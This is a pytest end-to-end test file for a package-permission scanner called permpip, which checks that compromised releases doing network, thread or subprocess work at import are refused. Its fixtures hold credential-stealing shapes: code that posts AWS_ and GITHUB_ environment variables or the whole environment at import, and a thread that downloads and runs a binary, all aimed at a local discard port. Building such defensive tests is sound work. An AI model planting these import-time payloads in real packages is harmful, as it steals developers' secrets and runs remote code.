"""Import-time grants end to end (issue #13): a compromised release of a trusted package.

Inert fixtures of the shapes seen in the wild (the 2022 ``ctx`` release, the 2024
``ultralytics`` releases), built here and served by the local test index:

* ``beacon-<shape>`` 1.0 reads one env variable at import and uses the network inside a
  function; 1.1 adds a network call that runs at import: at the top level, in a class body,
  in a decorator, in a default argument. The scanner labels these ``import`` today.
* ``mlkit`` 3.1.0 downloads, runs ``nvidia-smi`` and uses a thread pool inside functions;
  3.1.1 adds ``threading.Thread(target=_warm_up).start()`` at module level.
* ``httpkit`` 2.0.0 uses network and env inside functions and reads env at import; 2.0.1
  adds ``_sync_settings()``, defined in the module and called at its bottom, which posts
  ``AWS_*``/``GITHUB_*`` variables; 2.0.2 (benign) adds a runtime ``upload`` function.

``permpip policy init`` over the trusted versions writes the import-time grants it sees;
under that policy ``install`` refuses and ``diff`` fails the compromised releases, naming the
package, the import phase and the path, and the benign release installs. What reaches
network use through a function called at import (``_sync_settings()``, ``_warm_up`` run by a
thread started at import) is refused because the scanner follows execution (the scanner
part of #13), and the evidence says how it is reached (``via _sync_settings()``).

Nothing here is ever imported: every URL is the discard port of 127.0.0.1.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from gate._subprocess import Completed
from tests.builders import build_wheel, sha256_file
from tests.index import SubIndex

pytestmark = pytest.mark.e2e

Permpip = Callable[..., Completed]

SINK = "http://127.0.0.1:9/collect"  # discard port: nothing listens, nothing is sent

BEACON_BASE = '''\
import os
import urllib.request

_DEBUG = os.environ.get("BEACON_DEBUG")


def get(url):
    return urllib.request.urlopen(url, timeout=5).read()
'''

# shape -> (the code 1.1 adds, the line of its network call in __init__.py)
SHAPES: dict[str, tuple[str, int]] = {
    "toplevel": (f'''
_STATE = urllib.request.Request("{SINK}", data=repr(sorted(os.environ)).encode())
try:
    urllib.request.urlopen(_STATE, timeout=0.1)
except OSError:
    pass
''', 12),
    "classbody": (f'''

class _Telemetry:
    try:
        sent = urllib.request.urlopen("{SINK}", timeout=0.1)
    except OSError:
        sent = None
''', 13),
    "decorator": (f'''

def _register(value):
    return lambda func: func


@_register(urllib.request.urlopen("{SINK}", timeout=0.1))
def put(url, data):
    return data
''', 15),
    "default": (f'''

def post(url, data, _beacon=urllib.request.urlopen("{SINK}", timeout=0.1)):
    return data
''', 11),
}

MLKIT_310 = '''\
import os
import subprocess
import urllib.request
from concurrent.futures import ThreadPoolExecutor


def download(url, name):
    cache = os.path.join(os.path.expanduser("~"), ".cache", "mlkit")
    os.makedirs(cache, exist_ok=True)
    path = os.path.join(cache, name)
    with urllib.request.urlopen(url, timeout=5) as response, open(path, "wb") as out:
        out.write(response.read())
    return path


def gpu_info():
    return subprocess.run(["nvidia-smi"], capture_output=True, text=True).stdout


def fetch_all(urls):
    with ThreadPoolExecutor(4) as pool:
        return list(pool.map(lambda u: download(u, os.path.basename(u)), urls))
'''

MLKIT_311 = MLKIT_310.replace("import os\n", "import os\nimport threading\n", 1) + '''

def _warm_up():
    path = download("http://127.0.0.1:9/mlkit-kernel", "kernel")
    os.chmod(path, 0o755)
    subprocess.Popen([path])


threading.Thread(target=_warm_up, daemon=True).start()
'''
MLKIT_THREAD_LINE = MLKIT_311.splitlines().index(
    "threading.Thread(target=_warm_up, daemon=True).start()") + 1

HTTPKIT_200 = '''\
import json
import os
import urllib.request

_DEBUG = os.environ.get("HTTPKIT_DEBUG")


def get(url):
    request = urllib.request.Request(url)
    token = os.environ.get("HTTPKIT_TOKEN")
    if token:
        request.add_header("Authorization", "Bearer " + token)
    return json.loads(urllib.request.urlopen(request, timeout=5).read())
'''

HTTPKIT_201 = HTTPKIT_200 + f'''

def _sync_settings():
    leaked = {{k: v for k, v in os.environ.items() if k.startswith(("AWS_", "GITHUB_"))}}
    request = urllib.request.Request("{SINK}", data=json.dumps(leaked).encode())
    try:
        urllib.request.urlopen(request, timeout=0.1)
    except OSError:
        pass


_sync_settings()
'''

HTTPKIT_202 = HTTPKIT_200 + '''

def upload(url, data):
    request = urllib.request.Request(url, data=data)
    return urllib.request.urlopen(request, timeout=5).read()
'''

INIT_POLICY = """\
[tool.permissions.packages]
beacon-classbody = {allow = ["network", "env"], at-import = ["env"]}
beacon-decorator = {allow = ["network", "env"], at-import = ["env"]}
beacon-default = {allow = ["network", "env"], at-import = ["env"]}
beacon-toplevel = {allow = ["network", "env"], at-import = ["env"]}
httpkit = {allow = ["network", "env"], at-import = ["env"]}
mlkit = ["network", "fs-write", "subprocess", "threads", "env"]
"""


def wheel(dest: Path, name: str, version: str, source: str) -> Path:
    module = name.replace("-", "_")
    return build_wheel(dest, name, version, {f"{module}/__init__.py": source})


@pytest.fixture
def releases(tmp_path: Path, index: SubIndex) -> dict[str, dict[str, Path]]:
    """side -> name -> wheel, every wheel published on ``index``."""
    dist = tmp_path / "dist"
    trusted = {f"beacon-{s}": wheel(dist, f"beacon-{s}", "1.0", BEACON_BASE) for s in SHAPES}
    trusted["mlkit"] = wheel(dist, "mlkit", "3.1.0", MLKIT_310)
    trusted["httpkit"] = wheel(dist, "httpkit", "2.0.0", HTTPKIT_200)
    compromised = {f"beacon-{s}": wheel(dist, f"beacon-{s}", "1.1", BEACON_BASE + code)
                   for s, (code, _) in SHAPES.items()}
    compromised["mlkit"] = wheel(dist, "mlkit", "3.1.1", MLKIT_311)
    sides = {
        "trusted": trusted,
        "compromised": compromised,
        "via": {"httpkit": wheel(dist, "httpkit", "2.0.1", HTTPKIT_201),
                "mlkit": compromised["mlkit"]},
        "benign": {"httpkit": wheel(dist, "httpkit", "2.0.2", HTTPKIT_202)},
    }
    for side in sides.values():
        for art in side.values():
            index.publish(art)
    return sides


def write_pins(path: Path, files: Mapping[str, Path]) -> Path:
    lines = [f"{name}=={art.name.split('-')[1]} --hash=sha256:{sha256_file(art)}"
             for name, art in sorted(files.items())]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n")
    return path


def run(permpip: Permpip, project: Path, *args: str) -> Completed:
    done = permpip(*args, cwd=project)
    assert "Traceback" not in done.stderr, done.stderr
    return done


@pytest.fixture
def trusted_project(
    releases: dict[str, dict[str, Path]], project: Path, index: SubIndex, permpip: Permpip,
    make_venv: Callable[..., Path], installed: Callable[[Path], dict[str, str]],
) -> tuple[Path, Path]:
    """``policy init`` over the trusted versions, which then install: (project, python)."""
    write_pins(project / "trusted.txt", releases["trusted"])
    done = run(permpip, project, "policy", "init", "trusted.txt", "--index-url", index.url)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "pyproject.toml: wrote grants for 6 of 6 packages scanned\n"
    text = (project / "pyproject.toml").read_text()
    assert text.endswith(INIT_POLICY), text
    python = make_venv()
    done = run(permpip, project, "install", "--python", str(python), "--index-url", index.url,
               "-r", "trusted.txt")
    assert done.returncode == 0, done.stdout + done.stderr
    assert installed(python) == {**{f"beacon-{s}": "1.0" for s in SHAPES},
                                 "mlkit": "3.1.0", "httpkit": "2.0.0"}
    return project, python


def test_compromised_releases_are_refused_by_install_and_failed_by_diff(
    releases: dict[str, dict[str, Path]], trusted_project: tuple[Path, Path], index: SubIndex,
    permpip: Permpip, installed: Callable[[Path], dict[str, str]],
) -> None:
    project, python = trusted_project
    new = write_pins(project / "compromised.txt", releases["compromised"])
    done = run(permpip, project, "install", "--python", str(python), "--index-url", index.url,
               "-r", "compromised.txt")
    assert done.returncode == 1, done.stdout + done.stderr
    out = done.stdout
    assert ("refused: 5 of 5 packages use capabilities the policy does not grant "
            "(policy: pyproject.toml)\n") in out
    for shape, (_, line) in SHAPES.items():
        wheel_name = releases["compromised"][f"beacon-{shape}"].name
        assert (f"beacon-{shape} 1.1 ({wheel_name})\n"
                f"  network at import not granted:\n"
                f"    beacon_{shape}/__init__.py:{line} urllib.request.urlopen\n"
                f"  fix: permpip policy allow beacon-{shape} network --at-import\n") in out
    # what _warm_up does is named too once the scanner follows execution (#13): only the
    # thread started at import is asserted here
    mlkit = out[out.index(f"mlkit 3.1.1 ({releases['compromised']['mlkit'].name})\n"):]
    assert (f"  threads at import not granted:\n"
            f"    mlkit/__init__.py:{MLKIT_THREAD_LINE} threading.Thread\n") in mlkit
    fix = next(x for x in mlkit.splitlines() if x.startswith("  fix: "))
    assert fix.startswith("  fix: permpip policy allow mlkit ") and " threads " in fix
    assert fix.endswith(" --at-import")
    assert installed(python)["mlkit"] == "3.1.0"  # nothing installed
    assert installed(python)["beacon-toplevel"] == "1.0"

    done = run(permpip, project, "diff", "trusted.txt", "compromised.txt",
               "--index-url", index.url)
    assert done.returncode == 1, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    for shape, (_, line) in SHAPES.items():
        n = new.read_text().splitlines().index(
            next(x for x in new.read_text().splitlines() if x.startswith(f"beacon-{shape}=="))
        ) + 1
        head = (f"FAIL beacon-{shape} 1.0 -> 1.1 (upgraded)  [compromised.txt:{n}]: "
                f"not granted: network at import")
        i = lines.index(head)
        assert lines[i + 1:i + 3] == [
            "       + network (import)  NOT GRANTED at import",
            f"           beacon_{shape}/__init__.py:{line}  urllib.request.urlopen"]
    assert any(x.startswith("FAIL mlkit 3.1.0 -> 3.1.1 (upgraded)") and
               "threads at import" in x for x in lines)
    assert "ok   httpkit 2.0.0 (removed)  [trusted.txt:5]: nothing gained" in lines
    assert lines[-1] == ("6 packages changed, 0 unchanged; 5 packages gained capabilities "
                         "the policy does not grant")


def test_a_benign_release_adding_a_granted_runtime_use_installs(
    releases: dict[str, dict[str, Path]], trusted_project: tuple[Path, Path], index: SubIndex,
    permpip: Permpip, installed: Callable[[Path], dict[str, str]],
) -> None:
    project, python = trusted_project
    write_pins(project / "benign.txt", releases["benign"])
    done = run(permpip, project, "diff", "trusted.txt", "benign.txt", "--index-url", index.url)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "ok   httpkit 2.0.0 -> 2.0.2 (upgraded)" in done.stdout
    done = run(permpip, project, "install", "--python", str(python), "--index-url", index.url,
               "-r", "benign.txt")
    assert done.returncode == 0, done.stdout + done.stderr
    assert installed(python)["httpkit"] == "2.0.2"


def test_a_function_called_at_import_is_refused_naming_the_call(
    releases: dict[str, dict[str, Path]], trusted_project: tuple[Path, Path], index: SubIndex,
    permpip: Permpip, installed: Callable[[Path], dict[str, str]],
) -> None:
    project, python = trusted_project
    write_pins(project / "via.txt", {"httpkit": releases["via"]["httpkit"]})
    done = run(permpip, project, "install", "--python", str(python), "--index-url", index.url,
               "-r", "via.txt")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "httpkit 2.0.1" in done.stdout
    assert "  network at import not granted:" in done.stdout
    assert "via _sync_settings()" in done.stdout
    assert "fix: permpip policy allow httpkit network --at-import" in done.stdout
    assert installed(python)["httpkit"] == "2.0.0"
    done = run(permpip, project, "diff", "trusted.txt", "via.txt", "--index-url", index.url)
    assert done.returncode == 1
    assert "not granted: network at import" in done.stdout


def test_a_thread_started_at_import_is_refused_for_what_its_target_does(
    releases: dict[str, dict[str, Path]], trusted_project: tuple[Path, Path], index: SubIndex,
    permpip: Permpip,
) -> None:
    project, _ = trusted_project
    write_pins(project / "via.txt", {"mlkit": releases["via"]["mlkit"]})
    done = run(permpip, project, "check", "--index-url", index.url, "-r", "via.txt")
    assert done.returncode == 1, done.stdout + done.stderr
    for cap in ("network", "subprocess"):
        assert f"  {cap} at import not granted:" in done.stdout
    assert "via _warm_up" in done.stdout


# -- the policy beside each pin of a requirements file (no pyproject.toml) ---------------


def test_the_policy_beside_each_pin_of_a_requirements_file(
    releases: dict[str, dict[str, Path]], project: Path, index: SubIndex, permpip: Permpip,
    make_venv: Callable[..., Path], installed: Callable[[Path], dict[str, str]],
) -> None:
    old, new = releases["trusted"], releases["compromised"]

    def pins(files: Mapping[str, Path]) -> str:
        beacon, mlkit = files["beacon-toplevel"], files["mlkit"]
        return ("# production pins\n"
                f"beacon-toplevel=={beacon.name.split('-')[1]} \\\n"
                f"    --hash=sha256:{sha256_file(beacon)}  # reviewed 2024-05\n"
                f"mlkit=={mlkit.name.split('-')[1]} --hash=sha256:{sha256_file(mlkit)}\n")

    project.mkdir(parents=True)
    (project / "requirements.txt").write_text(pins(old))
    done = run(permpip, project, "policy", "init", "requirements.txt", "--policy",
               "requirements.txt", "--index-url", index.url)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "requirements.txt: wrote grants beside 2 pins of 2 packages scanned\n"
    assert not (project / "pyproject.toml").exists()
    written = pins(old).splitlines(keepends=True)
    written[2] = written[2].replace(
        "  # reviewed", "  # permissions: network, env; at-import: env  # reviewed")
    written[3] = written[3].replace(
        "\n", "  # permissions: network, fs-write, subprocess, threads, env\n")
    assert (project / "requirements.txt").read_text() == "".join(written)

    python = make_venv()
    for command in (["check"], ["install", "--python", str(python)]):
        done = run(permpip, project, *command, "--policy", "requirements.txt",
                   "--index-url", index.url, "-r", "requirements.txt")
        assert done.returncode == 0, done.stdout + done.stderr
    assert installed(python) == {"beacon-toplevel": "1.0", "mlkit": "3.1.0"}
    # with no pyproject.toml and no --policy, the comments of the file read are the policy
    for command in (["check", "requirements.txt"],
                    ["install", "--python", str(python), "-r", "requirements.txt"]):
        done = run(permpip, project, *command, "--index-url", index.url)
        assert done.returncode == 0, done.stdout + done.stderr
        assert "(policy: requirements.txt)" in done.stdout

    # a bump that keeps the comments: the new releases' import-time use is refused
    bumped = "".join(written).replace(old["beacon-toplevel"].name.split("-")[1], "1.1")
    for art in ("beacon-toplevel", "mlkit"):
        bumped = bumped.replace(sha256_file(old[art]), sha256_file(new[art]))
    bumped = bumped.replace("mlkit==3.1.0", "mlkit==3.1.1")
    (project / "new.txt").write_text(bumped)
    done = run(permpip, project, "diff", "requirements.txt", "new.txt", "--index-url", index.url)
    assert done.returncode == 1, done.stdout + done.stderr
    assert ("FAIL beacon-toplevel 1.0 -> 1.1 (upgraded)  [new.txt:2]: not granted: network at "
            "import") in done.stdout.splitlines()
    done = run(permpip, project, "install", "--python", str(python), "--policy", "new.txt",
               "--index-url", index.url, "-r", "new.txt")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "  fix: permpip policy allow beacon-toplevel network --at-import\n" in done.stdout
    assert installed(python) == {"beacon-toplevel": "1.0", "mlkit": "3.1.0"}
    done = run(permpip, project, "install", "--python", str(python), "--index-url", index.url,
               "-r", "new.txt")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "  fix: permpip policy allow beacon-toplevel network --at-import\n" in done.stdout
    assert installed(python) == {"beacon-toplevel": "1.0", "mlkit": "3.1.0"}

    # the edit the refusal asks for, beside the pin, keeping the layout
    done = run(permpip, project, "policy", "allow", "beacon-toplevel", "network", "--at-import",
               "--policy", "new.txt")
    assert done.returncode == 0, done.stderr
    assert done.stdout == "new.txt:2: beacon-toplevel: network, env; at import: network, env\n"
    assert (project / "new.txt").read_text() == bumped.replace(
        "at-import: env  # reviewed", "at-import: network, env  # reviewed")
    done = run(permpip, project, "policy", "revoke", "beacon-toplevel", "network",
               "--at-import", "--policy", "new.txt")
    assert done.returncode == 0, done.stderr
    assert (project / "new.txt").read_text() == bumped
